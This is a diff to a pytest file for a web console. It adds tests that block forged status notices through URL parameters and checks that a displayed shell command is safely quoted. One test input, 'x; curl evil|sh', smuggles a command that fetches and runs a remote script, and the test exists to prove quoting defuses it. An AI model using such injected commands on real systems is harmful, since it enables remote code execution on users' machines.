@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 from html import unescape
 from typing import Any
 
@@ -10,6 +11,8 @@ import pytest
 
 from service.operate.audit import trail
 from service.operate.formulas import list_formulas
+from service.web.console.formula_pages import command_to_remove
+from service.web.console.rendering import FOLDER
 from tests.web.console.asked import form_on, submit
 
 pytestmark = pytest.mark.anyio
@@ -76,6 +79,8 @@ async def test_a_formula_is_put_to_work_listed_and_ended(
         f"Formula {at_work.id} is deleted." in (await connected.get(gone.headers["location"])).text
     )
     assert (await list_formulas(deployment)).at_work == ()
+    never = (await connected.get(f"{FORMULAS}?removed=it has been hacked, and all")).text
+    assert "is deleted" not in never
     again = await submit(connected, question, REMOVE, {})
     assert again.status_code == 404
     removed, created, *_ = await trail(connected_desk.redis)
@@ -127,7 +132,27 @@ async def test_what_is_not_there_is_said(connected: Any, platform: Any) -> None:
         answer = await connected.get(path)
         assert answer.status_code == 404, path
     assert "Sales&#39; texts" in (await connected.get(f"{NEW}?template=9")).text
-    assert "is deleted" not in (await connected.get(f"{FORMULAS}?made=9")).text
+
+
+async def test_a_notice_is_shown_only_where_it_is_true(
+    connected: Any, deployment: Any, platform: Any
+) -> None:
+    """A link could make the page say what nobody did."""
+    template = str((await platform("POST", "/formulas", ONE))["id"])
+    form = (await connected.get(f"{NEW}?template={template}")).text
+    made = await submit(connected, form, NEW, {"set:every": "5"})
+    (at_work,) = (await list_formulas(deployment)).at_work
+    assert "is at work on the instance." in (await connected.get(made.headers["location"])).text
+    for said in (f"removed={at_work.id}", "removed=9", "removed=paid", "made=9", "made=paid"):
+        text = (await connected.get(f"{FORMULAS}?{said}")).text
+        assert 'class="notice"' not in text, said
+        assert "is deleted" not in text, said
+        assert "is at work on" not in text, said
+    # What was made is said no more once it has ended.
+    question = (await connected.get(f"{REMOVE}?id={at_work.id}")).text
+    await submit(connected, question, REMOVE, {})
+    text = (await connected.get(made.headers["location"])).text
+    assert "is at work on the instance." not in text
 
 
 async def test_a_viewer_sees_formulas_and_does_nothing(
@@ -149,3 +174,21 @@ async def test_a_viewer_sees_formulas_and_does_nothing(
             sent = {"csrf": csrf, "id": at_work.id, "template": template, "set:every": "1"}
             assert (await viewer.post(path, data=sent)).status_code == 403
     assert len((await list_formulas(deployment)).at_work) == 1
+
+
+def test_the_command_that_ends_a_formula_is_quoted() -> None:
+    """Whoever pastes it would run what somebody else wrote."""
+    for id_ in ("7", "x; curl evil|sh"):
+        command = command_to_remove(id_)
+        assert shlex.split(command) == ["parley", "connector", "formula", "remove", id_]
+
+
+def test_no_template_puts_a_command_together() -> None:
+    """It would not be quoted; pages get their commands from the views, which do."""
+    calls = [
+        (page.name, call)
+        for page in sorted(FOLDER.glob("*.html"))
+        for call in re.findall(r"\{\{ by_command\((.*?)\) \}\}", page.read_text("utf-8"))
+    ]
+    assert len(calls) > 20
+    assert [call for call in calls if "~" in call[1]] == []
